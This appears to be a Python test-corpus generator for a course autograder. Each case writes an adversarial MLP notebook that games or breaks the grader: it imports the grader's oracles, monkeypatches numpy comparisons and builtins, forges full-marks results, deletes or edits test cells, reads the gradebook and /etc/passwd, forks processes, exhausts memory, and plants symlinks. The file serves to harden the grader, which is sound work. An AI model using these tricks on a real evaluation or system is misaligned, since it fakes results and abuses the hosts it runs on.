# The grader's own modules the sandbox sees (autograder.assignments.mlp.oracles / probes): a notebook that
# takes ReLU, the sigmoid, forward, the SGD step and train's updates from them. When a helper is not there
# (it implements no graded function any more), the method raises: those checks fail, and earn nothing.
LEAK = """def _leak(name):
    import importlib
    for _m in ('oracles', 'probes'):
        _mod = importlib.import_module('autograder.assignments.mlp.' + _m)
        if hasattr(_mod, name):
            return getattr(_mod, name)
    raise ImportError('the sandbox has no ' + name)
"""
ORACLE_LEAK = Case(
    "oracle_leak", "ReLU, Sigmoid, forward, the SGD step and train's parameter updates taken from the sandbox's own "
    "grader modules (oracles.CorrectReLU / CorrectSigmoid / CountingSGD / sgd_replay, probes.correct_forward); "
    "backward, gradient checking and evaluate honest",
    {"activations": LEAK},
    wrong_relu=False,
    edits={"activations": [("        return np.maximum(0.0, np.asarray(z, dtype=float))",
                            "        return _leak('CorrectReLU')().forward(z)"),
                           ("        return (np.asarray(z, dtype=float) > 0).astype(float)",
                            "        return _leak('CorrectReLU')().derivative(z)"),
                           ("        z = np.asarray(z, dtype=float)\n        e = np.exp(-np.abs(z))  # in (0, 1]: never overflows\n"
                            "        return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))",
                            "        return _leak('CorrectSigmoid')().forward(z)"),
                           ("        s = self.forward(z)\n        return s * (1.0 - s)",
                            "        return _leak('CorrectSigmoid')().derivative(z)")],
           "model": [("        self.a1_cache = x @ self.W1.T + self.b1\n"
                      "        self.h1_cache = self.activation.forward(self.a1_cache)\n"
                      "        f = self.h1_cache @ self.W2[0] + self.b2[0]\n",
                      "        self.a1_cache, self.h1_cache, f = _leak('correct_forward')(self.get_parameters(), x,\n"
                      "                                                                  self.activation.name)\n")],
           "sgd": [("        params = model.get_parameters()\n        model.set_parameters({name: p - self.learning_rate "
                    "* grads['dL_d' + name] for name, p in params.items()})",
                    "        _leak('CountingSGD')(self.learning_rate).step(model, grads)")],
           "train": [("            batch = order[start:start + batch_size]\n"
                      "            f = model.forward(X[batch])\n"
                      "            optimizer.step(model, model.backward(X[batch], y[batch], f))\n",
                      "            batch = order[start:start + batch_size]\n"
                      "            model.backward(X[batch], y[batch], model.forward(X[batch]))   # what the grader records\n"
                      "            before = model.get_parameters()\n"
                      "            after = _leak('sgd_replay')(before, X, y, [batch], optimizer.learning_rate)[-1]\n"
                      "            optimizer.step(model, {'dL_d' + k: 0.0 * v for k, v in before.items()})   # counted, no move\n"
                      "            model.set_parameters(after)\n")]},
    fails=frozenset({"relu", "sigmoid", "forward_appendix_a", "forward_random", "sgd_step", "train_loop",
                     "xor_training"}))
# fixed: oracles.py/probes.py implement no graded function any more (the activation stand-in is a table of
# values computed by the judges, train's stand-in optimiser steps by tanh of the gradient, replayed by the judge)


CASES = [
    Case("honest_perfect", "the instructor's solution (an honest neighbour)", wrong_relu=False, fails=frozenset()),
    Case("honest_wrong_relu", "the honest ReLU mistake alone (an honest neighbour)"),
    Case("patch_allclose", "monkeypatches np.allclose / np.isclose / np.array_equal to always agree",
         {"activations": "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
                         "np.array_equal = lambda *a, **k: True\n"}),
    Case("patch_testing", "replaces numpy.testing's assertions by no-ops",
         {"activations": "import numpy.testing\nfor _n in dir(np.testing):\n    if _n.startswith('assert'):\n"
                         "        setattr(np.testing, _n, lambda *a, **k: None)\n"}),
    Case("patch_builtins", "replaces builtins (isinstance, bool, float, len, print, open)",
         {"activations": "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.print = lambda *a, **k: None\n"
                         "builtins.open = lambda *a, **k: None\n"}),
    Case("patch_grader", "rewrites the grading package it finds in sys.modules (probes, oracles)",
         {"activations": "import sys\nfor _name, _mod in list(sys.modules.items()):\n"
                         "    if _name.startswith('autograder'):\n"
                         "        for _k in list(vars(_mod)):\n"
                         "            if isinstance(vars(_mod)[_k], dict) and not _k.startswith('__'):\n"
                         "                vars(_mod)[_k].clear()\n"
                         "        _mod.__dict__['run_probe'] = lambda *a, **k: ('ok', {'forged': True})\n"
                         "        _mod.__dict__['plain'] = lambda v, w: {'shape': [], 'values': [0.0]}\n"}),
    Case("sys_exit", "calls sys.exit(0) at the top of the sgd cell (the rest of that cell never runs)",
         {"sgd": "import sys\nsys.exit(0)\n"}, wrong_relu=False, fails=frozenset({"sgd_step", "xor_training"})),
    Case("os_exit_mid_notebook", "calls os._exit(0) at the top of the sgd cell: the cells before it still count",
         {"sgd": "import os\nos._exit(0)\n"}, wrong_relu=False,
         fails=frozenset({"sgd_step", "train_loop", "evaluate", "xor_training"}), status="crashed", reason="os._exit"),
    Case("segfault", "dereferences a null pointer with ctypes in the evaluate cell",
         {"evaluate": "import ctypes\nctypes.string_at(0)\n"}, wrong_relu=False,   # train's cell comes after it
         fails=frozenset({"evaluate", "train_loop", "xor_training"}), status="crashed", reason="segmentation fault"),
    Case("read_course_files", "tries to read the instructor's notebook, src/, the tests and the gradebook, "
                              "and to use the reference ReLU if it can",
         {"evaluate": "_found = []\n"
                      "for _p in ['../../source/mlp/mlp.ipynb', '../source/mlp/mlp.ipynb', ROOT + '/source/mlp/mlp.ipynb',\n"
                      "           ROOT + '/src/activations.py', ROOT + '/tests/hidden/test_submission.py',\n"
                      "           ROOT + '/gradebook.db', '/etc/passwd']:\n"
                      "    try:\n        _found.append(open(_p, 'rb').read(1))\n    except Exception:\n        pass\n"
                      "try:\n    exec(open(ROOT + '/src/activations.py').read())   # the reference ReLU\n"
                      "except Exception:\n    pass\n"}),
    Case("fake_results", "writes a results.json with full marks where it guesses the grader writes it",
         {"activations": "import json as _json\n_fake = {'score': 100, 'max_score': 100, 'status': 'graded', 'tests': []}\n"
                         "for _p in [RESULTS_FILE, 'results.json', '../results.json', '/results.json']:\n"
                         "    try:\n        with open(_p, 'w') as _f:\n            _json.dump(_fake, _f)\n"
                         "    except Exception:\n        pass\n"}),
    Case("delete_tests", "deletes every test cell", tamper="delete_tests"),
    Case("edit_tests", "replaces every test cell's code by a print", tamper="edit_tests"),
    Case("duplicate_tests", "duplicates every test cell", tamper="duplicate_tests"),
    Case("retype_tests", "turns every test cell into markdown", tamper="retype_tests"),
    Case("tamper_metadata", "gives test cells 1000 points, unlocks them, marks solution cells as graded",
         tamper="metadata"),
    Case("endless_loop_in_cell", "an endless loop at the top of the train cell: the cells before it still count",
         {"train": "while True:\n    pass\n"}, wrong_relu=False,
         fails=frozenset({"train_loop", "xor_training"}), status="timeout", reason="cell 'train'"),
    Case("endless_loop_in_check", "train never returns (the loop runs only when a check calls train)",
         edits=BY_NAME["endless_loop"].edits, wrong_relu=False, fails=frozenset({"train_loop", "xor_training"}),
         status="timeout", reason="time limit"),
    Case("memory_bomb", "allocates memory in a loop in the evaluate cell until the per-process limit (half the "
                        "submission's) raises MemoryError: that cell fails, the rest is graded",
         {"evaluate": "_hog = []\nwhile True:\n    _hog.append(bytearray(50 * 2 ** 20))\n"}, wrong_relu=False,
         fails=frozenset({"evaluate"})),
    Case("fifty_children", "forks 50 child processes that sleep for 10 minutes, and leaves them running",
         {"activations": "import os as _os, time as _time\nfor _i in range(50):\n    if _os.fork() == 0:\n"
                         "        _time.sleep(600)\n        _os._exit(0)\n"}),
    Case("megabytes_of_output", "prints 20 MB while its cells run and in every forward call",
         {"activations": "print('x' * (20 * 2 ** 20))\n", "evaluate": "print('y' * (20 * 2 ** 20))\n"}),
    Case("stderr_spam", "writes 20 MB to stderr and raises warnings",
         {"activations": "import sys as _sys, warnings as _w\n_sys.stderr.write('E' * (20 * 2 ** 20))\n"
                         "for _i in range(10000):\n    _w.warn('spam')\n"}),
    Case("invalid_json", "a truncated file: not JSON", raw=b'{"cells": [', wrong_relu=False, fails=None,
         status="invalid", reason="invalid JSON"),
    Case("empty_file", "an empty file", raw=b"", wrong_relu=False, fails=None, status="invalid", reason="empty"),
] + [ORACLE_LEAK] + ATTACKS + LAYOUT
BY_CASE = {c.name: c for c in CASES}


def write_corpus(directory, results_dir=None, outside=None):
    """DIR/<case>/mlp/mlp.ipynb for every case (links for the LAYOUT cases, whose targets outside the
    class go to `outside`, by default DIR + "-outside"); returns {case: notebook path}."""
    outside = outside or directory.rstrip(os.sep) + "-outside"
    paths = {}

    def folder_of(name):
        folder = os.path.join(directory, name, "mlp")
        os.makedirs(folder, exist_ok=True)
        return folder

    for case in CASES:
        if case.layout not in ("", "extra_links"):
            continue
        path = os.path.join(folder_of(case.name), "mlp.ipynb")
        results_file = os.path.join(results_dir, case.name, "results.json") if results_dir else None
        with open(path, "wb") as f:
            f.write(notebook_bytes(case, results_file, directory))
        paths[case.name] = path
    perfect = paths["honest_perfect"]
    os.makedirs(os.path.join(outside, "mlp"), exist_ok=True)
    outside_notebook = os.path.join(outside, "mlp", "mlp.ipynb")
    with open(perfect, "rb") as f, open(outside_notebook, "wb") as g:
        g.write(f.read())
    for case in CASES:
        path = os.path.join(directory, case.name, "mlp", "mlp.ipynb")
        if case.layout == "symlink_to_neighbour":
            os.symlink(perfect, os.path.join(folder_of(case.name), "mlp.ipynb"))
        elif case.layout == "symlink_to_passwd":
            os.symlink("/etc/passwd", os.path.join(folder_of(case.name), "mlp.ipynb"))
        elif case.layout == "hardlink_to_victim":
            os.link(paths["link_victim"], os.path.join(folder_of(case.name), "mlp.ipynb"))
        elif case.layout == "hardlink_outside":
            os.link(outside_notebook, os.path.join(folder_of(case.name), "mlp.ipynb"))
        elif case.layout == "symlink_folder":
            os.symlink(os.path.join(directory, "honest_perfect"), os.path.join(directory, case.name))
        elif case.layout == "symlink_mlp":
            os.makedirs(os.path.join(directory, case.name), exist_ok=True)
            os.symlink(os.path.join(outside, "mlp"), os.path.join(directory, case.name, "mlp"))
        elif case.layout == "extra_links":
            os.symlink(os.path.join(ROOT, "src", "data.py"), os.path.join(folder_of(case.name), "data.py"))
            os.symlink(perfect, os.path.join(folder_of(case.name), "other.ipynb"))
        else:
            continue
        paths[case.name] = path
    return paths

if __name__ == "__main__":
    print(json.dumps(sorted(write_corpus(sys.argv[1]))))
